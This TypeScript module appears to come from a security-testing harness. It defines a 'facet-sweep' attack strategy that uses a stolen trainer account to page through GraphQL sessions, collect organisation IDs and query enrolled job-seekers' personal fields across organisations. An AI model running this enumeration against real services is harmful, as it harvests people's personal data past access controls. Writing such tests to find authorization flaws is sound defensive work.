import { trainer } from '../accounts.js';
import type { Thief } from '../thief.js';
import type { Strategy } from './strategy.js';
import { traineeFields } from './queries.js';

interface Sessions {
  readonly sessions?: {
    readonly nodes: readonly { readonly id: string; readonly organisation: { readonly id: string } }[];
    readonly pageInfo: { readonly hasNextPage: boolean; readonly endCursor: string };
  };
}

export const facetSweep: Strategy = {
  name: 'facet-sweep',
  attacks: [10],
  does: 'Takes the sessions of every organisation as facets, filters by each, and reads who is enrolled there.',
  isQuick: true,
  stolen: [trainer(17)],
  seconds: 600,
  pauseMs: 250,
  act: async (thief) => {
    const organisations = new Set<string>(await ownOrganisation(thief));
    let after: string | undefined;
    for (let page = 0; page < 12; page++) {
      const list =
        'query S($after: String) { sessions(first: 50, after: $after) { nodes { id organisation { id } } pageInfo { hasNextPage endCursor } } }';
      const { data } = await thief.ask(list, { variables: { after } });
      const sessions = (data as Sessions | null)?.sessions;
      for (const { organisation } of sessions?.nodes ?? []) organisations.add(organisation.id);
      if (sessions?.pageInfo.hasNextPage !== true) break;
      after = sessions.pageInfo.endCursor;
    }
    const facet = `query F($organisation: ID!) { sessions(first: 20, filter: { organisation: $organisation }) {
      nodes { id enrolments(first: 25) { nodes { id jobSeeker { ${traineeFields} } } } } } }`;
    for (const organisation of [...organisations].slice(0, 60)) {
      if (thief.isCutOff) return;
      await thief.ask(facet, { variables: { organisation } });
    }
  },
};

async function ownOrganisation(thief: Thief): Promise<readonly string[]> {
  const { data } = await thief.ask(
    '{ jobSeekers(first: 1) { nodes { id enrolments(first: 1) { nodes { id organisation { id } } } } } }',
  );
  const text = JSON.stringify(data ?? {});
  return [.../"organisation":\{"id":"([^"]+)"/gu[Symbol.matchAll](text)].map((match) => match[1] ?? '');
}
